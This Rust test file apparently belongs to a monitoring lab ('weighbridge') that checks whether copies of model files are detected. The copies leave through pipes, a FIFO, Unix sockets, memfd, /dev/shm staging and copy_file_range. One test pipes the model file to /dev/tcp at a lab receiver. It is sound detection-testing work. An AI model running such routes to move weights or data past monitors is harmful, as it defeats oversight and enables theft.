//! One process takes, another puts (TECHNIQUES 1E): carriers. Everything in this file rests on the ledger following bytes
//! through pipes, sockets and files that a holder wrote into; where it does not follow yet, these are the tests that fail.

use std::{path::Path, process::Command};

use tests::lab::{outside::UNCONTROLLED, process::Identity, which};

use crate::{
    expect::Expected,
    world::{Scene, Test, World, size},
};

pub(crate) const TESTS: &[Test] = &[
    ("pipe_to_a_file", pipe_to_a_file),
    ("pipe_through_gzip", pipe_through_gzip),
    ("pipe_of_three", pipe_of_three),
    ("fifo", fifo),
    ("pipe_to_a_peer", pipe_to_a_peer),
    ("unix_socket_to_a_peer", unix_socket_to_a_peer),
    ("staged_on_the_controlled_volume", staged_on_the_controlled_volume),
    ("staged_in_shared_memory", staged_in_shared_memory),
    ("staged_in_a_memfd", staged_in_a_memfd),
    ("copy_file_range_of_a_staged_copy", copy_file_range_of_a_staged_copy),
];

fn pipe_to_a_file(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let shell =
        scene.shell(&format!("cat {} | dd bs=64K of={} status=none", source.display(), copy.display()));
    let dd = descendant(&shell, "dd", &format!("dd bs=64K of={} status=none", copy.display()));
    let expected = [Expected::copy(&scene, &dd, &copy, scene.arrived(source, &copy)).through(1)];
    scene.expect(&expected);
}

fn pipe_through_gzip(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w.gz"));
    let shell = scene.shell(&format!("cat {} | gzip -1 > {}", source.display(), copy.display()));
    let gzip = descendant(&shell, "gzip", "gzip -1");
    assert!(size(&copy) < size(source));
    let expected = [Expected::copy(&scene, &gzip, &copy, size(&copy)).through(1)];
    scene.expect(&expected);
}

fn pipe_of_three(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let shell = scene.shell(&format!("cat {} | cat | cat > {}; true", source.display(), copy.display()));
    let cat = descendant(&shell, "cat", "cat");
    let expected = [Expected::copy(&scene, &cat, &copy, scene.arrived(source, &copy)).through(2)];
    scene.expect(&expected);
}

/// A named pipe between two processes that share nothing else.
fn fifo(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let pipe = scene.work.join("fifo");
    tests::lab::run(Command::new("mkfifo").arg(&pipe)).expect("a FIFO can be made");
    let shell = scene.shell(&format!(
        "cat {} > {pipe} & cat {pipe} > {}; wait",
        source.display(),
        copy.display(),
        pipe = pipe.display()
    ));
    let cat = descendant(&shell, "cat", &format!("cat {}", pipe.display()));
    let expected = [Expected::copy(&scene, &cat, &copy, scene.arrived(source, &copy)).through(1)];
    scene.expect(&expected);
}

/// `tar c | ssh`, without ssh: what sends never opened a file.
fn pipe_to_a_peer(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.tcp(UNCONTROLLED).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let script = format!("cat {} | cat > /dev/tcp/{}/{}; true", source.display(), addr.ip(), addr.port());
    World::needs("bash");
    let shell = scene.run(Command::new("bash").args(["-c", &script]));
    let bytes = scene.received(source, receiver);
    let cat = descendant(&shell, "cat", "cat");
    let expected = [Expected::egress(&scene, &cat, addr, "tcp", bytes).through(1)];
    scene.expect(&expected);
}

fn unix_socket_to_a_peer(w: &mut World) {
    let scene = w.scene();
    let source = &scene.model.files[0];
    let receiver = scene.world.outside.tcp(UNCONTROLLED).unwrap_or_else(|error| panic!("{error:#}"));
    let addr = receiver.addr;
    let mut command = scene.python("unix_relay.py", include_str!("scripts/unix_relay.py"));
    let parent = scene.run(command.arg(source).arg(addr.ip().to_string()).arg(addr.port().to_string()));
    let bytes = scene.received(source, receiver);
    let relay = Identity { pid: None, started: None, ancestry: below(&parent), ..parent };
    let expected = [Expected::egress(&scene, &relay, addr, "tcp", bytes).through(1)];
    scene.expect(&expected);
}

/// First a copy beside the model, which is allowed; then that copy leaves.
fn staged_on_the_controlled_volume(w: &mut World) {
    let scene = w.scene();
    let stage = scene.controlled.join("notes.bin");
    staged(scene, &stage, true);
}

fn staged_in_shared_memory(w: &mut World) {
    let scene = w.scene();
    let stage = Path::new("/dev/shm").join(format!("weighbridge-lab-{}", std::process::id()));
    staged(scene, &stage, false);
    // Best effort: it is the lab's own file, and the next assertion of anything would come too late for it.
    let _ = std::fs::remove_file(&stage);
}

/// `on_the_volume`: the stage lies on the controlled volume, where the staged copy raises WB-0007 itself.
fn staged(scene: Scene<'_>, stage: &Path, on_the_volume: bool) {
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let stager = scene.run(Command::new("cp").arg(source).arg(stage));
    let cp = scene.run(Command::new("cp").arg(stage).arg(&copy));
    let mut expected = vec![Expected::copy(&scene, &cp, &copy, scene.arrived(source, &copy))];
    if on_the_volume {
        expected.push(Expected::unregistered(&scene, &stager, stage, size(stage)));
    }
    scene.expect(&expected);
}

/// Taken into a memfd by one process, sent from it by its child.
fn staged_in_a_memfd(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let mut command = scene.python("memfd.py", include_str!("scripts/memfd.py"));
    let parent = scene.run(command.arg(source).arg(&copy));
    let child = Identity { pid: None, started: None, ancestry: below(&parent), ..parent };
    let expected = [Expected::copy(&scene, &child, &copy, scene.arrived(source, &copy))];
    scene.expect(&expected);
}

/// The kernel copies within one filesystem without a read or a write: there from the controlled volume's own copy.
fn copy_file_range_of_a_staged_copy(w: &mut World) {
    let scene = w.scene();
    let (source, copy) = (&scene.model.files[0], scene.uncontrolled.join("w"));
    let stage = scene.controlled.join("notes.bin");
    let stager = scene.run(&mut scene.mover("copy_file_range", "-", source, &stage.to_string_lossy()));
    let cp = scene.run(Command::new("cp").arg(&stage).arg(&copy));
    let expected = [
        Expected::copy(&scene, &cp, &copy, scene.arrived(source, &copy)),
        Expected::unregistered(&scene, &stager, &stage, size(&stage)),
    ];
    scene.expect(&expected);
}

/// A child of the shell, or the shell itself once it has become the program.
fn descendant(shell: &Identity, program: &str, cmdline: &str) -> Identity {
    Identity {
        pid: None,
        exe: which(program).unwrap_or_else(|| crate::world::skip(format_args!("needs {program}"))),
        cmdline: Some(cmdline.to_owned()),
        started: None,
        ..shell.clone()
    }
}

fn below(parent: &Identity) -> Vec<u32> {
    parent.pid.into_iter().chain(parent.ancestry.iter().copied()).collect()
}
